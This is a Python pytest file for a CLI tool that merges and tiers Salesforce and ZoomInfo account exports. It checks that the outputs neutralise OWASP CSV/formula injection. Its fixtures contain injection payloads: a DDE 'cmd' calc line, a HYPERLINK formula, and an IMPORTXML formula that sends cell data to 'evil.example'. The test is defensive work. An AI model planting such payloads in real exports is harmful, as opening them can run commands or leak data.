"""No output of merge, tier or segment runs vendor text as a formula (OWASP CSV injection).

A vendor name such as `=HYPERLINK("http://x","click")` must show as that text: a
string cell in every workbook, a quote-prefixed cell in every CSV, while real numbers
stay numbers.
"""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest
from typer.testing import CliRunner

from abmcli.cli.app import app
from abmcli.formats.registry import UPLOAD_FORMATS, format_names
from abmcli.safe import is_formula_like

HYPERLINK = '=HYPERLINK("http://x","click")'
CALC = "+cmd|' /C calc'!A0"
ATTACKS = [HYPERLINK, "@SUM(1+1)", "-2+3", CALC, "\t=1+1", "\r=2+2",
           '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")']

SALESFORCE = [
    ["Account Name", "Website", "Billing City", "Billing Country", "Account Owner", "Type",
     "Annual Revenue", "Employees", "Industry", "Account ID"],
    [HYPERLINK, "acme.com", "Boston", "United States", "@SUM(1+1)", CALC, "50000000", "1200",
     "Software", "0015g00000AbCdEAAV"],
    ["-2+3", "globex.com", "=1+1", "United States", "Jane Doe", "Customer", "30000000", "400",
     "\t=1+1", "0015g00000AbCdFAAV"],
    ["@SUM(1+1)", ATTACKS[-1], "Austin", "United States", "\r=2+2", "Prospect", "", "",
     "Software", "0015g00000AbCdGAAV"],
]
ZOOMINFO = [
    ["ZoomInfo Company ID", "Company Name", "Website", "Revenue (in 000s USD)", "Employees",
     "Primary Industry", "Company Country"],
    ["1001", HYPERLINK, "https://www.acme.com/", "50000", "1200", "=1+1", "United States"],
    ["1002", "\r=2+2", "initech.com", "-12.5", "250", CALC, "United States"],
    ["1003", "+1 Marketing Ltd", "plusone.co.uk", "8000", "90", "Marketing", "United Kingdom"],
]
CONFIG = """
as_of = 2026-11-25
[icp]
employees = { min = 100 }
[tiers]
min_fit = 50
tier1_min_fit = 60
"""
SEGMENT_FORMATS = format_names()  # every registered upload format

runner = CliRunner()


def write_csv(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    return path


def invoke(*args: str) -> None:
    result = runner.invoke(app, list(args))
    assert result.exit_code == 0, result.output


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Every file merge, tier and segment write from the hostile inputs."""
    root = tmp_path_factory.mktemp("injection")
    inputs = root / "in"
    inputs.mkdir()
    crm = write_csv(inputs / "salesforce_accounts.csv", SALESFORCE)
    fit = write_csv(inputs / "zoominfo_export.csv", ZOOMINFO)
    config = inputs / "abm.toml"
    config.write_text(CONFIG, encoding="utf-8")
    out = root / "out"
    out.mkdir()
    invoke("merge", str(crm), str(fit), "-c", str(config), "-o", str(out / "hub.xlsx"),
           "--lineage", str(out / "lineage.csv"), "--decisions", str(out / "decisions.csv"))
    invoke("tier", str(out / "hub.xlsx"), "-c", str(config), "-o", str(out / "tiers.xlsx"),
           "--csv-dir", str(out / "tiers"))
    for fmt in SEGMENT_FORMATS:
        suffix = UPLOAD_FORMATS[fmt].suffix
        invoke("segment", str(out / "tiers.xlsx"), "-c", str(config), "--where",
               'tier != ""', "--format", fmt, "-o", str(out / f"segment-{fmt}{suffix}"))
    return out


def workbook_cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_every_output_was_written(outputs: Path) -> None:
    names = {p.relative_to(outputs).as_posix() for p in outputs.rglob("*") if p.is_file()}
    assert {"hub.xlsx", "lineage.csv", "tiers.xlsx"} <= names
    assert len([n for n in names if n.startswith("tiers/")]) >= 1
    assert {f"segment-{fmt}{UPLOAD_FORMATS[fmt].suffix}" for fmt in SEGMENT_FORMATS} <= names


def test_no_workbook_cell_is_a_formula(outputs: Path) -> None:
    books = sorted(outputs.rglob("*.xlsx"))
    assert len(books) == 3
    texts: set[str] = set()
    for book in books:
        for cell in workbook_cells(book):
            assert cell.data_type != "f", (book.name, cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                texts.add(cell.value)
    assert HYPERLINK in texts and "@SUM(1+1)" in texts and CALC in texts and "-2+3" in texts


def test_every_formula_like_csv_cell_is_quote_prefixed(outputs: Path) -> None:
    files = sorted(outputs.rglob("*.csv"))
    assert len(files) >= 8
    prefixed: set[str] = set()
    for path in files:
        for cell in csv_cells(path):
            assert not is_formula_like(cell), (path.name, cell)
            if cell.startswith("'"):
                prefixed.add(cell[1:])
    assert {HYPERLINK, "-2+3", "@SUM(1+1)"} <= prefixed


def test_real_numbers_stay_numbers(outputs: Path) -> None:
    hub = openpyxl.load_workbook(outputs / "hub.xlsx")["Hub"]
    header = [cell.value for cell in hub[1]]
    rows = [dict(zip(header, (c.value for c in row), strict=True)) for row in hub.iter_rows(2)]
    acme = next(row for row in rows if row["domain"] == "acme.com")
    assert acme["account_name"] == HYPERLINK
    assert acme["employees"] == 1200 and isinstance(acme["employees"], int | float)
    assert acme["revenue"] == 50_000_000
    lineage = list(csv.DictReader((outputs / "lineage.csv").open(encoding="utf-8")))
    assert [row["row"] for row in lineage][:3] == ["1", "2", "3"]
